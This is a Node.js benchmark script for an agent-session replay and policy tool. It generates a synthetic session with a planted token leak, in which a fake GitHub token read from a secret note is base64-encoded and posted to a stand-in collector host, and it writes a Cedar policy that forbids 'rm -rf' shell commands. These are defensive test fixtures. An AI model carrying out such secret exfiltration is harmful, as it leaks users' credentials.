#!/usr/bin/env node
/**
 * Replay benchmark: generates a 100,000-step session in agentwarden's normalized JSONL (tool calls,
 * results, a few approvals, a secret flowing out near the end) in a temp directory and times
 * `runReplay` from the compiled dist/, in the sandbox and in process. Prints steps/s and the peak RSS
 * of the process that parsed and evaluated (the sandbox child reports its own).
 *
 *   npm run build && node bench/replay.mjs [--steps 100000] [--no-sandbox] [--sandbox-only] [--cedar]
 *
 * `--cedar` evaluates every call against a Cedar policy as well (permit, a forbid on arguments, an
 * approval-gated forbid), the way a gateway policy would be used.
 */
import { mkdtempSync, rmSync, createWriteStream, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { once } from 'node:events';

const here = dirname(fileURLToPath(import.meta.url));
const { runReplay } = await import(pathToFileURL(join(here, '..', 'dist', 'commands', 'replay.js')).href);

const args = process.argv.slice(2);
const steps = Number(args[args.indexOf('--steps') + 1]) || 100_000;
const modes = args.includes('--no-sandbox') ? [false] : args.includes('--sandbox-only') ? [true] : [true, false];
const withCedar = args.includes('--cedar');
/** `--keep DIR`: write the generated session (and policy) there and leave them, to profile the same input again. */
const keep = args.includes('--keep') ? args[args.indexOf('--keep') + 1] : undefined;
const CEDAR = `permit (principal, action, resource);
@id("no-destructive-shell")
forbid (principal, action == Action::"Bash", resource) when { context has input && context.input has command && context.input.command like "*rm -rf*" };
@id("orders-need-approval")
@verdict("needs-approval")
forbid (principal, action == Action::"lookup_order", resource) when { context has input && context.input has page && context.input.page > 5 } unless { context.approved };
`;

const TOKEN = 'ghp_BenchR8nQ2vXk7LmP4sT9wY3zA6bC1dE5fG0';

async function generate(file, n) {
  const out = createWriteStream(file);
  const write = async (obj) => {
    if (!out.write(`${JSON.stringify(obj)}\n`)) await once(out, 'drain');
  };
  await write({ type: 'session', schema: 'agentwarden.session/v1', id: 'bench', agent: 'bench-bot', user: 'bench@example.com' });
  let written = 1;
  let i = 0;
  while (written < n) {
    i++;
    const id = `c${i}`;
    const t = new Date(Date.UTC(2026, 10, 2, 8) + i * 1000).toISOString();
    if (i % 5000 === 0) {
      await write({ type: 'approval', callId: id, decision: 'approved', approver: 'lead@example.com', time: t });
      await write({ type: 'tool-call', id, tool: 'Bash', args: { command: `make shard-${i}` }, time: t });
      written += 2;
    } else if (i === Math.floor(n / 4) + 1) {
      await write({ type: 'tool-call', id, tool: 'read_secret_note', args: { name: 'ci' }, time: t });
      await write({ type: 'tool-result', callId: id, output: `CI token: ${TOKEN}`, time: t });
      written += 2;
      continue;
    } else if (i === Math.floor(n / 4) + 11) {
      await write({ type: 'tool-call', id, tool: 'http_post', args: { url: 'https://collector.example.net/in', body: Buffer.from(TOKEN).toString('base64') }, time: t });
      written += 1;
    } else {
      await write({ type: 'tool-call', id, tool: i % 3 ? 'search_docs' : 'lookup_order', args: { query: `question ${i} about invoices and refunds`, page: i % 7 }, time: t });
      written += 1;
    }
    await write({ type: 'tool-result', callId: id, output: `result ${i}: ${'lorem ipsum dolor sit amet '.repeat(4)}`, time: t });
    written += 1;
  }
  out.end();
  await once(out, 'finish');
  return written;
}

const dir = keep ?? mkdtempSync(join(tmpdir(), 'aw-replay-bench-'));
try {
  const file = join(dir, 'session.jsonl');
  const policy = withCedar ? join(dir, 'policy.cedar') : undefined;
  if (policy) writeFileSync(policy, CEDAR);
  const t0 = performance.now();
  const lines = await generate(file, steps);
  const size = statSync(file).size;
  console.log(`generated ${lines} events (${(size / 1e6).toFixed(1)} MB) in ${((performance.now() - t0) / 1000).toFixed(2)} s`);
  for (const sandbox of modes) {
    const rssBefore = process.memoryUsage().rss;
    let peak = rssBefore;
    const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 20);
    const start = performance.now();
    const { report, exitCode, peakRssBytes } = await runReplay([file], { root: dir, sandbox, memoryMb: 256, policy });
    const ms = performance.now() - start;
    clearInterval(timer);
    peak = Math.max(peak, process.memoryUsage().rss);
    const session = report.sessions[0];
    const total = (session?.steps.length ?? 0) + (session?.stepsOmitted ?? 0);
    console.log(
      `replay ${sandbox ? 'sandboxed ' : 'in process'}${policy ? ' with Cedar' : ''}: ${total} steps in ${(ms / 1000).toFixed(2)} s = ${Math.round(total / (ms / 1000)).toLocaleString('en-US')} steps/s; ` +
        `peak RSS ${sandbox ? `sandbox child ${(peakRssBytes / 1e6).toFixed(0)} MB, parent ${(peak / 1e6).toFixed(0)} MB` : `${(peakRssBytes / 1e6).toFixed(0)} MB`}; ` +
        `timeline kept ${session?.steps.length}, omitted ${session?.stepsOmitted ?? 0}; findings ${report.findings.length}; exit ${exitCode}`,
    );
  }
} finally {
  if (!keep) rmSync(dir, { recursive: true, force: true });
}
